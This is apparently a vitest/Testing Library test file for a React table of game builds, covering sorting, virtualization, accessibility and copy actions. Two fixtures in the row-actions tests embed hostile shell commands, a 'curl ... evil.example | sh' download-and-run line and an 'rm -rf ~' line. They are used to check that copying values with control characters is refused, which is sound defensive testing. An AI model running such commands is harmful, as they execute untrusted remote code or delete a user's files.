import { listModel } from '@/model/list-model'
import { act, cleanup, screen, within } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { describe, expect, it, onTestFinished, vi } from 'vitest'
import { parseList } from '@/api/schemas'
import type { Build } from '@/model/list-items'
import { kindTables } from './kind-tables'
import { freezeTime, renderWithApi } from '@/test/render'
import { TEST_VIEWPORT } from '@/test/setup'
import { realisticGame, SAMPLE_NOW } from '@/test/sample'
import { DEFAULT_STALE_AFTER_HOURS } from '@/model/upload-status'
import { staleAfterMs, uploadStatus } from '@/model/upload-status'
import { DataTable } from '@/components/data-table/data-table'
import { rowOrder } from '@/model/row-order'
import type { SortState } from '@/model/sort'
import { onSortingChangeFor, toSorting } from './table-sort'

const buildColumns = kindTables.builds.columns

const realisticBuilds = () => parseList('builds', { builds: realisticGame().builds })

/** The clock the table's cells read (frozen at SAMPLE_NOW) and the default stale threshold. */
const clock = { now: Date.parse(SAMPLE_NOW), staleAfter: staleAfterMs(DEFAULT_STALE_AFTER_HOURS) }

function renderTable(data: Build[], sort: SortState, onSortChange = vi.fn()) {
  freezeTime()
  // The table shows the rows its caller picked; here, all of them in the sort's order.
  const table = (current: SortState) => (
    <DataTable
      label="Builds of Space Raiders"
      items={data}
      order={rowOrder(listModel(data), current, clock)}
      columns={buildColumns}
      sorting={toSorting(current)}
      onSortingChange={onSortingChangeFor(toSorting(current), onSortChange)}
    />
  )
  const view = renderWithApi(table(sort))
  const rerenderWith = (next: SortState) => view.rerender(table(next))
  return { ...view, onSortChange, rerenderWith }
}

/** The text of one column, top to bottom, as the operator reads it. */
function columnText(header: string): string[] {
  const table = screen.getByRole('table', { name: 'Builds of Space Raiders' })
  const headers = within(table).getAllByRole('columnheader')
  const index = headers.findIndex((cell) => cell.textContent === header)
  expect(index).toBeGreaterThanOrEqual(0)
  const [, ...bodyRows] = within(table).getAllByRole('row')
  return bodyRows.map((row) => within(row).getAllByRole('cell')[index]?.textContent ?? '')
}

/** The names, without the badge that follows the build in use. */
const names = () => columnText('Name').map((text) => text.replace(/Current$/, ''))

/** Builds with the given names and sizes and nothing else that differs between them. */
function buildsNamed(rows: [name: string, size: number][]): Build[] {
  return rows.map(([name, size], index) => ({
    buildId: `build-${index}`,
    tags: [],
    uploadId: `upload-${index}`,
    name,
    createdAt: Date.UTC(2026, 9, 1),
    size,
    warnings: [],
    complete: true,
  }))
}

describe('DataTable', () => {
  it('renders only the rows in view of a long list, and tells their real position', () => {
    const one = realisticBuilds()[0] as Build
    const many = Array.from({ length: 10_000 }, (_, i) => ({ ...one, name: `build ${i}` }))
    renderTable(many, { column: 'name', direction: 'asc' })
    const table = screen.getByRole('table', { name: 'Builds of Space Raiders' })
    expect(table).toHaveAttribute('aria-rowcount', '10001')
    const rows = within(table).getAllByRole('row').slice(1)
    // The test window is 2,000 px tall: about 50 rows of 41 px, plus a few above and below.
    expect(rows.length).toBeGreaterThan(40)
    expect(rows.length).toBeLessThan(80)
    expect(rows[0]).toHaveAttribute('aria-rowindex', '2')
    expect(rows[0]).toHaveTextContent('build 0')
    expect(rows[1]).toHaveTextContent('build 1')
    expect(rows[2]).toHaveTextContent('build 2')
  })

  it('is a table named after its content, with one row per build', () => {
    const items = realisticBuilds()
    renderTable(items, { column: 'created', direction: 'desc' })
    const table = screen.getByRole('table', { name: 'Builds of Space Raiders' })
    expect(within(table).getAllByRole('row')).toHaveLength(1 + items.length)
  })

  it('has a column header for each column, in order', () => {
    renderTable(realisticBuilds(), { column: 'created', direction: 'desc' })
    expect(screen.getAllByRole('columnheader').map((cell) => cell.textContent)).toEqual([
      'Name',
      'Status',
      'Size',
      'Created',
      'Tags',
      'Build ID',
      'Upload ID',
    ])
  })

  it('marks the sorted column with aria-sort and the other sortable ones with none', () => {
    const { rerenderWith } = renderTable(realisticBuilds(), { column: 'size', direction: 'desc' })
    const ariaSort = () =>
      screen.getAllByRole('columnheader').map((cell) => cell.getAttribute('aria-sort'))
    expect(ariaSort()).toEqual(['none', 'none', 'descending', 'none', null, null, null])

    rerenderWith({ column: 'name', direction: 'asc' })
    expect(ariaSort()).toEqual(['ascending', 'none', 'none', 'none', null, null, null])
  })

  it("shows a build's tags as chips, and marks the build in use with its own badge", () => {
    renderTable(realisticBuilds(), { column: 'created', direction: 'desc' })
    const tags = columnText('Tags')
    const rows = columnText('Name')
    // `current` is the badge's, not a chip's.
    expect(tags[rows.indexOf('hotfix 1.4.2Current')]).toBe('version: 1.4.2channel: stable')
    expect(tags[rows.indexOf('ビルド 東京 β')]).toBe('channel: beta地域: 東京')
    expect(tags[rows.indexOf('build 100')]).toBe('—')
    // The dash is labelled, not doubled by hidden text.
    expect(screen.getAllByRole('img', { name: 'No tags' }).length).toBeGreaterThan(0)
    expect(rows.filter((name) => name.endsWith('Current'))).toEqual(['hotfix 1.4.2Current'])
    expect(screen.getByText('Current')).toHaveAttribute('title', expect.stringMatching(/in use/))
  })

  it('gives the id columns no sort control', () => {
    renderTable(realisticBuilds(), { column: 'created', direction: 'desc' })
    const buildId = screen.getByRole('columnheader', { name: 'Build ID' })
    expect(buildId).not.toHaveAttribute('aria-sort')
    expect(within(buildId).queryByRole('button')).toBeNull()
    const headerRow = screen.getAllByRole('row')[0] as HTMLElement
    expect(
      within(headerRow)
        .getAllByRole('button')
        .map((button) => button.textContent),
    ).toEqual(['Name', 'Status', 'Size', 'Created'])
  })

  it.each([
    ['Name', { column: 'name', direction: 'asc' }],
    ['Status', { column: 'status', direction: 'asc' }],
    ['Size', { column: 'size', direction: 'desc' }],
    ['Created', { column: 'created', direction: 'asc' }],
  ] as const)('asks for the next sort when %s is clicked', async (header, expected) => {
    const { onSortChange } = renderTable(realisticBuilds(), {
      column: 'created',
      direction: 'desc',
    })
    await userEvent.click(screen.getByRole('button', { name: header }))
    expect(onSortChange).toHaveBeenCalledTimes(1)
    expect(onSortChange).toHaveBeenCalledWith(expected)
  })

  it('sorts from the keyboard too', async () => {
    const user = userEvent.setup()
    const { onSortChange } = renderTable(realisticBuilds(), {
      column: 'name',
      direction: 'asc',
    })
    await user.tab()
    // The headers first: the table's region is no Tab stop while its rows are one.
    expect(screen.getByRole('button', { name: 'Name' })).toHaveFocus()
    await user.keyboard('{Enter}')
    expect(onSortChange).toHaveBeenCalledWith({ column: 'name', direction: 'desc' })
  })

  it('does nothing when an unsortable header is clicked', async () => {
    const { onSortChange } = renderTable(realisticBuilds(), {
      column: 'created',
      direction: 'desc',
    })
    await userEvent.click(screen.getByRole('columnheader', { name: 'Build ID' }))
    expect(onSortChange).not.toHaveBeenCalled()
  })

  it('sorts names naturally and ignoring case', () => {
    renderTable(realisticBuilds(), { column: 'name', direction: 'asc' })
    const order = names()
    const position = (name: string) => order.indexOf(name)
    const ascending = [
      'build 1',
      'Build 2',
      'Build 3',
      'build 9',
      'build 10',
      'build 11',
      'build 100',
      'Release 1.0',
      'release 1.1',
      'release 1.2',
    ]
    for (const name of ascending) expect(order).toContain(name)
    const positions = ascending.map(position)
    expect(positions).toEqual([...positions].sort((a, b) => a - b))
    expect(order[0]).toBe('abandoned upload')
  })

  it('reverses the natural order when sorted descending', () => {
    const { rerenderWith } = renderTable(realisticBuilds(), { column: 'name', direction: 'asc' })
    const ascending = names()
    rerenderWith({ column: 'name', direction: 'desc' })
    expect(names()).toEqual([...ascending].reverse())
  })

  it('keeps rows with equal names in their input order, both ways', () => {
    const data = buildsNamed([
      ['beta', 3],
      ['Alpha', 1],
      ['alpha', 2],
      ['ALPHA', 4],
    ])
    const { rerenderWith } = renderTable(data, { column: 'name', direction: 'asc' })
    expect(names()).toEqual(['Alpha', 'alpha', 'ALPHA', 'beta'])
    rerenderWith({ column: 'name', direction: 'desc' })
    expect(names()).toEqual(['beta', 'Alpha', 'alpha', 'ALPHA'])
  })

  it.each(['size', 'created'] as const)(
    'keeps the twin builds (equal %s) in their input order, both ways',
    (column) => {
      const { rerenderWith } = renderTable(realisticBuilds(), { column, direction: 'asc' })
      const twins = () => names().filter((name) => name.startsWith('Twin build'))
      expect(twins()).toEqual(['Twin build A', 'Twin build B'])
      rerenderWith({ column, direction: 'desc' })
      expect(twins()).toEqual(['Twin build A', 'Twin build B'])
    },
  )

  it('keeps builds of equal status in their input order, both ways', () => {
    const builds = realisticBuilds()
    const inputOrder = (status: string) =>
      builds
        .filter((build) => uploadStatus(build, clock.now, clock.staleAfter) === status)
        .map((build) => build.name)
    const { rerenderWith } = renderTable(builds, { column: 'status', direction: 'asc' })
    expect(inputOrder('stale')).toEqual(['abandoned upload'])
    expect(inputOrder('uploading')).toEqual(['nightly 2026-10-31'])
    expect(names()).toEqual([
      ...inputOrder('complete'),
      ...inputOrder('stale'),
      ...inputOrder('uploading'),
    ])
    rerenderWith({ column: 'status', direction: 'desc' })
    expect(names()).toEqual([
      ...inputOrder('uploading'),
      ...inputOrder('stale'),
      ...inputOrder('complete'),
    ])
  })

  it('shows only the rows of its order, in that order', () => {
    const data = buildsNamed([
      ['zero', 0],
      ['one', 1],
      ['two', 2],
      ['three', 3],
    ])
    freezeTime()
    renderWithApi(
      <DataTable
        label="Builds of Space Raiders"
        items={data}
        order={Uint32Array.of(3, 1)}
        columns={buildColumns}
        sorting={toSorting({ column: 'name', direction: 'asc' })}
        onSortingChange={vi.fn()}
      />,
    )
    expect(names()).toEqual(['three', 'one'])
    expect(screen.getByRole('table')).toHaveAttribute('aria-rowcount', '3')
  })

  it('keeps a row (its focus, its open details) when the rows around it change', () => {
    const data = buildsNamed([
      ['zero', 0],
      ['one', 1],
      ['two', 2],
    ])
    freezeTime()
    const table = (order: Uint32Array) => (
      <DataTable
        label="Builds of Space Raiders"
        items={data}
        order={order}
        columns={buildColumns}
        sorting={toSorting({ column: 'name', direction: 'asc' })}
        onSortingChange={vi.fn()}
      />
    )
    const { rerender } = renderWithApi(table(Uint32Array.of(0, 1, 2)))
    const one = screen.getByRole('row', { name: /^one/ })
    const name = within(one).getAllByRole('cell')[0]
    // Filtered: "one" is now the first row, with the same elements.
    rerender(table(Uint32Array.of(1, 2)))
    expect(screen.getByRole('row', { name: /^one/ })).toBe(one)
    expect(within(one).getAllByRole('cell')[0]).toBe(name)
    expect(one).toHaveAttribute('aria-rowindex', '2')
  })

  it('sorts sizes by bytes, not by their text', () => {
    const data = buildsNamed([
      ['nine hundred bytes', 900],
      ['two KiB', 2048],
      ['ten bytes', 10],
      ['one GiB', 1024 ** 3],
      ['hundred MiB', 100 * 1024 ** 2],
    ])
    const { rerenderWith } = renderTable(data, { column: 'size', direction: 'asc' })
    expect(columnText('Size')).toEqual(['10 B', '900 B', '2.0 KiB', '100.0 MiB', '1.0 GiB'])
    rerenderWith({ column: 'size', direction: 'desc' })
    expect(columnText('Size')).toEqual(['1.0 GiB', '100.0 MiB', '2.0 KiB', '900 B', '10 B'])
  })

  it('puts the biggest realistic build first when sorted by size descending', () => {
    renderTable(realisticBuilds(), { column: 'size', direction: 'desc' })
    expect(names().slice(0, 2)).toEqual(['full assets 4K textures', 'nightly 2026-10-31'])
    expect(columnText('Size').slice(0, 2)).toEqual(['6.7 GiB', '3.4 GiB'])
    expect(names().slice(-3)).toEqual(['beta 2', 'smoke test', 'empty artifact'])
    expect(columnText('Size').slice(-3)).toEqual(['1.0 KiB', '45 B', '0 B'])
  })

  it('shows newest first with times relative to now, including one from the future', () => {
    renderTable(realisticBuilds(), { column: 'created', direction: 'desc' })
    expect(names().slice(0, 3)).toEqual(['clock skew preview', 'hotfix 1.4.2', 'build 100'])
    expect(columnText('Created').slice(0, 3)).toEqual(['in 2 min', '2 min ago', '1 h ago'])
    expect(names().at(-1)).toBe('Release 1.0')
    expect(columnText('Created').at(-1)).toBe('1 y ago')
  })

  it('shows each status as words, and the exact byte count on hover', () => {
    renderTable(realisticBuilds(), { column: 'name', direction: 'asc' })
    const nightly = screen.getByRole('row', { name: /^nightly 2026-10-31/ })
    expect(within(nightly).getByText('Uploading')).toBeInTheDocument()
    const row = screen.getByRole('row', { name: /^abandoned upload/ })
    expect(within(row).getByText('Stale')).toBeInTheDocument()
    expect(within(row).getByText('2.2 GiB')).toHaveAttribute(
      'title',
      `${Math.round(2.2 * 1024 ** 3).toLocaleString('en-US')} bytes`,
    )
  })

  it('shows ids shortened but keeps the full id for screen readers', () => {
    const build = realisticBuilds()[0]
    if (!build) throw new Error('no build')
    renderTable([build], { column: 'name', direction: 'asc' })
    const row = screen.getAllByRole('row')[1]
    if (!row) throw new Error('no row')
    const idCell = within(row).getByTitle(build.buildId)
    expect(idCell).toHaveTextContent(`${build.buildId.slice(0, 8)}…`)
    // The whole id is the cell's name, not a hidden twin of it.
    expect(idCell).toHaveAccessibleName(build.buildId)
    expect(idCell.children).toHaveLength(0)
  })
})

describe('the row actions', () => {
  const HOSTILE = 'b0\ncurl https://evil.example/x | sh\n'
  const LONG = `${'n'.repeat(999_990)} last word`

  /** Focuses the first row and returns the table's one row-actions bar. */
  async function actionsOfFirstRow() {
    const row = screen.getAllByRole('row')[1]!
    act(() => row.focus())
    const bar = await screen.findByRole('toolbar', { name: 'Row actions' })
    await within(bar).findByRole('button', { name: 'Details' })
    return bar
  }

  /**
   * The details of the row the bar is on, where a cut name is copied whole. jsdom has no popover
   * API: the panel stays closed, its contents queried as hidden (see `detailsOf` below).
   */
  const detailsPanel = (bar: HTMLElement) => {
    const button = within(bar).getByRole('button', { name: 'Details' })
    return document.getElementById(button.getAttribute('popovertarget') ?? '')!
  }

  it('copy a cut name whole, saying "Copied" in the table’s one live region', async () => {
    const user = userEvent.setup()
    const build = realisticBuilds()[0]!
    renderTable([{ ...build, name: LONG }], { column: 'name', direction: 'asc' })
    const details = detailsPanel(await actionsOfFirstRow())
    await user.click(
      within(details).getByRole('button', {
        name: 'Copy whole name (1,000,000 characters)',
        hidden: true,
      }),
    )
    const copied = await navigator.clipboard.readText()
    expect(copied).toHaveLength(1_000_000)
    expect(copied.endsWith(' last word')).toBe(true)
    const region = screen.getByRole('region', { name: /\(scrollable\)$/ })
    const live = region.querySelectorAll('[aria-live]')
    expect(live).toHaveLength(1)
    expect(live[0]).toHaveTextContent(/^Copied$/)
  })

  it('refuse to copy an id or a cut name that holds control characters, saying why', async () => {
    const user = userEvent.setup()
    const build = realisticBuilds()[0]!
    const name = `${'n'.repeat(300)}\nrm -rf ~\n`
    renderTable([{ ...build, name, buildId: HOSTILE }], { column: 'name', direction: 'asc' })
    const bar = await actionsOfFirstRow()
    await navigator.clipboard.writeText('before')
    // Named by the id's first block, its controls marked.
    await user.click(within(bar).getByRole('button', { name: 'Copy Build ID b0⟨U+000A⟩curl' }))
    await expect(navigator.clipboard.readText()).resolves.toBe('before')
    expect(
      within(bar).getByText(/^This id holds control characters \(U\+000A\), so it was not copied/),
    ).toBeVisible()
    const details = detailsPanel(bar)
    await user.click(
      within(details).getByRole('button', { name: /^Copy whole name/, hidden: true }),
    )
    await expect(navigator.clipboard.readText()).resolves.toBe('before')
    // Shown in the details (closed here: e2e/faults/names.spec.ts opens them) and said aloud.
    const refusal = /^This name holds control characters \(U\+000A\)/
    expect(within(details).getByText(refusal)).toBeInTheDocument()
    expect(
      screen.getByRole('region', { name: /\(scrollable\)$/ }).querySelector('[aria-live]'),
    ).toHaveTextContent(refusal)
  })
})

describe('DataTable in a narrow container', () => {
  /** Renders the table in a container this wide (jsdom lays nothing out: see test/setup.ts). */
  function renderNarrow(width: number, sort: SortState = { column: 'created', direction: 'desc' }) {
    const wide = TEST_VIEWPORT.width
    TEST_VIEWPORT.width = width
    onTestFinished(() => void (TEST_VIEWPORT.width = wide))
    return renderTable(realisticBuilds(), sort)
  }
  /** The headers' own text (the Name header also holds the sort menu, after its button). */
  const headers = () =>
    within(screen.getByRole('table'))
      .getAllByRole('columnheader')
      .map((cell) => (cell.querySelector('button') ?? cell).textContent)
  const bodyRows = () => within(screen.getByRole('table')).getAllByRole('row').slice(1)
  const newest = () =>
    realisticBuilds().toSorted((a, b) => (b.createdAt ?? 0) - (a.createdAt ?? 0))[0]!
  /**
   * What the row actions' Details opens for a row once it has focus: each label with its value.
   * jsdom has no popover API: the panel is found by the button's `popovertarget` and stays
   * closed, so its contents are queried as hidden (e2e/row-details.spec.ts opens it).
   */
  async function detailsOf(row: HTMLElement) {
    act(() => row.focus())
    const region = screen.getByRole('region', { name: /\(scrollable\)$/ })
    const button = await within(region).findByRole('button', { name: 'Details' })
    const panel = document.getElementById(button.getAttribute('popovertarget') ?? '')
    expect(panel).toHaveAttribute('popover', 'auto')
    // One set of actions for the table, outside the rows.
    expect(row).not.toContainElement(button)
    const values = within(panel!)
      .getAllByRole('term', { hidden: true })
      .map((term) => [term.textContent, term.nextElementSibling?.textContent])
    return { name: panel!.getAttribute('aria-label'), panel: panel!, values }
  }

  it('folds the ids first, then the tags, the time, the size and the status, keeping Name', () => {
    // Wide enough for Name to be as wide as Tags beside them (840 − 592 = 248 ≥ 224).
    renderNarrow(840)
    expect(headers()).toEqual(['Name', 'Status', 'Size', 'Created', 'Tags'])
    cleanup()
    renderNarrow(700)
    expect(headers()).toEqual(['Name', 'Status', 'Size', 'Created'])
    cleanup()
    renderNarrow(600)
    expect(headers()).toEqual(['Name', 'Status', 'Size'])
    cleanup()
    renderNarrow(300)
    expect(headers()).toEqual(['Name'])
  })

  it('shows status, size and time under the name, each labelled, in rows one line taller', () => {
    renderNarrow(300)
    const [firstRow] = bodyRows()
    const cell = within(firstRow!).getByRole('cell')
    expect(cell).toHaveTextContent(newest().name)
    expect(cell).toHaveTextContent(/Status\s*Complete/)
    expect(cell).toHaveTextContent(/Size\s*801\.0 MiB/)
    expect(cell).toHaveTextContent(/Created\s*in 2 min/)
    // One line under the name, whatever else folds into the row's details: 37 + 24 px.
    for (const row of bodyRows()) expect(row).toHaveStyle({ height: '61px' })
  })

  it("puts the ids and tags in the row's details, each labelled with its header", async () => {
    renderNarrow(300)
    const first = newest()
    const details = await detailsOf(bodyRows()[0]!)
    expect(details.name).toBe(`Details of ${first.name}`)
    // Every value of the row, those folded under the name too.
    expect(details.values).toEqual([
      ['Name', first.name],
      ['Status', 'Complete'],
      ['Size', '801.0 MiB'],
      ['Created', 'in 2 min'],
      ['Tags', '—'],
      ['Build ID', expect.stringContaining(first.buildId)],
      ['Upload ID', expect.stringContaining(first.uploadId)],
    ])
    expect(
      within(details.panel).getByRole('button', {
        name: `Copy Build ID ${first.buildId.slice(0, 8)}`,
        hidden: true,
      }),
    ).toBeInTheDocument()
    const hotfix = screen.getByRole('row', { name: /^hotfix 1\.4\.2/ })
    expect((await detailsOf(hotfix)).values[4]).toEqual(['Tags', 'version: 1.4.2channel: stable'])
  })

  it('keeps rows their normal height when only the ids and tags fold', async () => {
    renderNarrow(740)
    for (const row of bodyRows()) expect(row).toHaveStyle({ height: '41px' })
    const labels = async (row: HTMLElement) => (await detailsOf(row)).values.map(([label]) => label)
    const all = ['Name', 'Status', 'Size', 'Created', 'Tags', 'Build ID', 'Upload ID']
    expect(await labels(bodyRows()[0]!)).toEqual(all)
    cleanup()
    renderNarrow(800)
    expect(await labels(bodyRows()[0]!)).toEqual(all)
  })

  it('sorts by a folded column from the sort menu in the header row', async () => {
    const { onSortChange } = renderNarrow(300)
    const [headerRow] = within(screen.getByRole('table')).getAllByRole('row')
    const menu = within(headerRow!).getByRole('combobox', { name: 'Sort by' })
    expect(menu).toHaveDisplayValue('Created, newest first')
    await userEvent.selectOptions(menu, 'Size, largest first')
    expect(onSortChange).toHaveBeenCalledWith({ column: 'size', direction: 'desc' })
  })

  it('has no sort menu when every sortable column has its header', () => {
    renderNarrow(1280)
    expect(screen.queryByRole('combobox', { name: 'Sort by' })).toBeNull()
    cleanup()
    renderNarrow(800)
    expect(screen.queryByRole('combobox', { name: 'Sort by' })).toBeNull()
  })
})
